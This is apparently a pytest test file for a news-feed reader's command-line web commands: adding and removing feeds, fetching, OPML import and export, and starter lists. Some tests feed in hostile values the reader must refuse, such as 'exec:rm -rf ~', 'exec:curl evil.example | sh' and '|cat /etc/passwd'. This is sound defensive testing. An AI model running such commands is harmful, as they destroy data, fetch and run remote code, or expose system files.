"""The web commands run in-process through ``tui.cli.main`` against a loopback server, with the
config and data dirs in a temporary folder."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from feeds.store import Store, feedstate
from feeds.subscriptions import load_subscriptions, parse_opml, subscriptions_path
from tests.feeds.test_refresh import KZ, PAGE, TECH, WEB, FakeSite, Route, _server, site
from tui.cli import main
from tui.cli_web import relative_time, starter_feeds

__all__ = ["_server", "site"]  # fixtures shared with test_refresh

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(autouse=True)
def dirs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    return tmp_path


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_add_of_a_web_page_subscribes_to_its_advertised_feed(
    site: FakeSite, capsys: pytest.CaptureFixture[str]
) -> None:
    site.routes["/"] = Route(body=PAGE, content_type="text/html; charset=utf-8")
    site.routes["/feed.xml"] = Route(body=KZ)
    code, out, _ = run(capsys, "add", site.url("/"), "--folder", "Central Asia/KZ")
    assert code == 0
    assert f"subscribed: Steppe Wire <{site.url('/feed.xml')}> in Central Asia/KZ" in out
    assert "found on the page: rss feed “Steppe Wire RSS”" in out
    [sub] = load_subscriptions()
    assert (sub.url, sub.title, sub.folder) == (
        site.url("/feed.xml"),
        "Steppe Wire",
        "Central Asia/KZ",
    )
    # Adding it again changes nothing.
    code, out, _ = run(capsys, "add", site.url("/feed.xml"), "--title", "Other")
    assert code == 0 and out.startswith("already subscribed") and len(load_subscriptions()) == 1


def test_add_refuses_pages_without_feeds_and_bad_urls(
    site: FakeSite, capsys: pytest.CaptureFixture[str]
) -> None:
    site.routes["/plain"] = Route(
        body=b"<html><title>Plain</title><p>hi</p></html>", content_type="text/html"
    )
    code, _, err = run(capsys, "add", site.url("/plain"))
    assert code == 1 and "the page (Plain) advertises no feed" in err
    code, _, err = run(capsys, "add", "exec:rm -rf ~")
    assert code == 2 and "never run" in err
    code, _, err = run(capsys, "add", site.url("/missing"))
    assert code == 1 and "feed not found (HTTP 404)" in err
    assert load_subscriptions() == []
    code, out, _ = run(capsys, "add", site.url("/missing"), "--no-check", "--title", "Later")
    assert code == 0 and "subscribed: Later" in out


def test_fetch_prints_a_summary_and_exit_status(
    site: FakeSite, capsys: pytest.CaptureFixture[str], dirs: Path
) -> None:
    db = dirs / "news.db"
    site.routes["/kz.xml"] = Route(body=KZ)
    site.routes["/tech.json"] = Route(body=TECH, content_type="application/feed+json")
    assert run(capsys, "add", site.url("/kz.xml"), "--title", "Steppe")[0] == 0
    assert run(capsys, "add", site.url("/tech.json"))[0] == 0
    code, out, _ = run(capsys, "fetch", "--db", str(db))
    lines = out.splitlines()
    assert code == 0
    assert sorted(lines[:2]) == ["ok    Steppe: 2 new", "ok    Tech Notes: 2 new"]
    assert lines[-1] == "2 feeds: 2 ok, 0 failed, 0 skipped; 4 new items"
    # One feed turns into a web page: exit status 1, the error in words, items kept.
    site.routes["/kz.xml"] = Route(body=PAGE, content_type="text/html")
    code, out, _ = run(capsys, "fetch", "--db", str(db))
    assert code == 1
    assert "FAIL  Steppe: the server sent a web page, not a feed" in out
    assert "ok    Tech Notes: 0 new, 2 already stored" in out
    assert out.splitlines()[-1] == "2 feeds: 1 ok, 1 failed, 0 skipped; 0 new items"
    with Store.open(db) as store:
        assert store.total() == 4
    # --only picks one feed by title.
    code, out, _ = run(capsys, "fetch", "--db", str(db), "--only", "Tech Notes", "--quiet")
    assert code == 0 and out.splitlines() == ["1 feeds: 1 ok, 0 failed, 0 skipped; 0 new items"]


def test_fetch_due_skips_a_rate_limited_feed(
    site: FakeSite, capsys: pytest.CaptureFixture[str], dirs: Path
) -> None:
    db = str(dirs / "news.db")
    site.routes["/busy.xml"] = Route(status=429, headers={"Retry-After": "3600"})
    run(capsys, "add", site.url("/busy.xml"), "--no-check", "--title", "Busy")
    code, out, _ = run(capsys, "fetch", "--db", db)
    assert code == 1 and "FAIL  Busy: rate limited, retry after 60 min" in out
    asked = len(site.requests)
    code, out, _ = run(capsys, "fetch", "--db", db, "--due")
    assert code == 0 and "skip  Busy: rate limited by the server; next try in" in out
    assert "1 feeds: 0 ok, 0 failed, 1 skipped" in out and len(site.requests) == asked


def test_fetch_with_no_subscriptions_says_what_to_do(
    capsys: pytest.CaptureFixture[str], dirs: Path
) -> None:
    code, out, _ = run(capsys, "fetch", "--db", str(dirs / "n.db"))
    assert code == 0 and "newsdesk add URL" in out


def test_feeds_lists_state_counts_and_errors_then_remove_keeps_items(
    site: FakeSite, capsys: pytest.CaptureFixture[str], dirs: Path
) -> None:
    db = str(dirs / "news.db")
    site.routes["/kz.xml"] = Route(body=KZ)
    run(capsys, "add", site.url("/kz.xml"), "--folder", "Central Asia")
    run(capsys, "add", site.url("/dead.xml"), "--no-check", "--title", "Dead")
    run(capsys, "fetch", "--db", db)
    code, out, _ = run(capsys, "feeds", "--db", db)
    assert code == 0
    assert "Steppe Wire  [Central Asia]" in out and site.url("/kz.xml") in out
    assert "2 items · last success just now" in out
    assert "0 items · last success never" in out
    assert "last error: feed not found (HTTP 404)" in out
    code, out, _ = run(capsys, "remove", "steppe wire")
    assert code == 0 and "its stored items are kept" in out
    assert [s.title for s in load_subscriptions()] == ["Dead"]
    with Store.open(Path(db)) as store:
        assert feedstate.item_count(store, site.url("/kz.xml")) == 2
    assert run(capsys, "remove", "nothing")[0] == 1


def test_opml_import_reports_rejections_and_export_round_trips(
    capsys: pytest.CaptureFixture[str], dirs: Path
) -> None:
    code, out, err = run(capsys, "import-opml", str(WEB / "subscriptions.opml"))
    assert code == 0
    assert out.strip() == "3 added, 0 skipped as duplicates, 5 rejected"
    assert "rejected: line 8: exec:curl evil.example | sh: exec: commands are never run" in err
    assert "line 13: |cat /etc/passwd: pipe commands are never run" in err
    assert "file:///etc/passwd" in err and "filter:" in err and "gopher:" in err
    # Importing again adds nothing.
    code, out, _ = run(capsys, "import-opml", str(WEB / "subscriptions.opml"))
    assert out.startswith("0 added, 3 skipped as duplicates")
    exported = dirs / "out.opml"
    assert run(capsys, "export-opml", str(exported))[0] == 0
    back = parse_opml(exported.read_bytes()).subscriptions
    assert back == tuple(load_subscriptions())
    code, out, _ = run(capsys, "export-opml")
    assert code == 0 and "<opml" in out and 'xmlUrl="https://steppe.example/feed.xml"' in out


def test_bad_subscriptions_file_is_a_clear_error(capsys: pytest.CaptureFixture[str]) -> None:
    path = subscriptions_path()
    path.parent.mkdir(parents=True)
    path.write_text("[[feed]\n", encoding="utf-8")
    code, _, err = run(capsys, "feeds")
    assert code == 2 and str(path) in err and "cannot read subscriptions" in err


def test_starter_lists_offline_and_enable_subscribes(capsys: pytest.CaptureFixture[str]) -> None:
    starters = starter_feeds()
    assert len(starters) >= 10 and all(s.folder and s.title for s in starters)
    assert {"Central Asia", "China", "World"} <= {s.folder for s in starters}
    code, out, _ = run(capsys, "starter")
    assert code == 0 and "The Astana Times" in out and load_subscriptions() == []
    code, out, _ = run(capsys, "starter", "--enable")
    assert code == 0 and out.startswith(f"{len(starters)} subscribed")
    assert [s.url for s in load_subscriptions()] == [s.url for s in starters]
    code, out, _ = run(capsys, "starter")
    assert out.count("* ") >= len(starters)


def test_relative_time() -> None:
    assert relative_time(None, 1000) == "never"
    assert relative_time(1000, 1030) == "just now"
    assert relative_time(1000, 1000 + 300) == "5 min ago"
    assert relative_time(0, 7200) == "2 h ago"
    assert relative_time(0, 86400 * 3) == "3 days ago"


def test_web_commands_do_not_import_textual() -> None:
    code = (
        "import tui.cli_web, feeds.refresh, feeds.fulltext, feeds.discover\n"
        "import sys; print('textual' in sys.modules or 'rich' in sys.modules)"
    )
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, check=True
    )
    assert out.stdout.strip() == "False"
